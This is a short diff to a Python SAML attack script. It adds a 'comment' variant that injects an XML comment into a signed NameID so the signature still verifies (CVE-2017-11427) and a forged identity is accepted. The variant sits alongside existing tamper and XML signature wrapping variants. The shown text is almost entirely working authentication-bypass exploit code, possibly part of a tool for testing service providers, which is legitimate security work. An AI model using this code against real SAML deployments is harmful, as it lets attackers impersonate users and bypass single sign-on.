@@ -182,6 +182,15 @@ def attack(xml, args):
     if args.variant == "tamper":
         # Changes the signed NameID: the digest no longer matches.
         return NAME_ID.sub(lambda m: m.group(1) + args.forged_name_id + m.group(3), xml, count=1)
+    if args.variant == "comment":
+        # Splits the signed NameID with a comment after len(--forged-name-id) characters:
+        # exclusive c14n drops comments, so the signature still verifies (CVE-2017-11427).
+        k = len(args.forged_name_id)
+        return NAME_ID.sub(
+            lambda m: m.group(1) + m.group(2)[:k] + "<!---->" + m.group(2)[k:] + m.group(3),
+            xml,
+            count=1,
+        )
     match = ASSERTION.search(xml)
     if not match:
         sys.exit("no assertion to wrap")
@@ -232,7 +241,7 @@ def main():
     r.add_argument("--alg", choices=sorted(SIG), default="sha256")
     r.add_argument(
         "--variant",
-        choices=["none", "tamper", "xsw-before", "xsw-after", "xsw-extensions"],
+        choices=["none", "tamper", "comment", "xsw-before", "xsw-after", "xsw-extensions"],
         default="none",
     )
     r.add_argument("--forged-name-id", default="mallory@example.com")
